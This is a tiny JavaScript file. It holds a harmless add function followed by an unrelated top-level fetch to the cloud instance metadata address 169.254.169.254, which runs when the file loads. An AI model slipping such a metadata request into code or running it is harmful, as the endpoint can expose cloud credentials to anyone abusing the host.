function add(a, b) {
  return a + b;
}
fetch('http://169.254.169.254/');
